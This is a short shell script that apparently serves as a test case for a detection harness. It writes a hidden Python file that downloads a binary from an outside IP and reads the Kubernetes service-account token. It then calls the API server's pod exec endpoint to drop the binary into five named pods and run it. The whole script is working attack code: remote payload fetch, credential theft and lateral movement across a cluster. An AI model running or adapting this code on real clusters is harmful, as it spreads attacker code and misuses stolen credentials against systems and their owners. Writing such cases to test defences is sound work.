#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.cp.py <<'END'
import http.client, io, tarfile, urllib.parse, urllib.request
tool = urllib.request.urlopen("http://203.0.113.10/programs/marker").read(); b = io.BytesIO(); t = tarfile.open(fileobj=b, mode="w"); i = tarfile.TarInfo("tmp/.k"); i.size, i.mode = len(tool), 0o755; t.addfile(i, io.BytesIO(tool)); t.close()
token = open("/run/secrets/kubernetes.io/serviceaccount/token").read(); done = 0
for pod in ("web-0", "web-1", "db-0", "cache-0", "build-7f"):
    for c in (["tar", "xf", "-", "-C", "/"], ["/tmp/.k"]):
        h = http.client.HTTPConnection("10.77.0.1", 6443, timeout=4)
        h.request("POST", f"/api/v1/namespaces/default/pods/{pod}/exec?stdin=1&stdout=1&" + "&".join("command=" + urllib.parse.quote(w) for w in c), b.getvalue(), {"Authorization": "Bearer " + token}); done += h.getresponse().status == 200; h.close()
assert done == 10
END
python3 /tmp/.cp.py
took_place
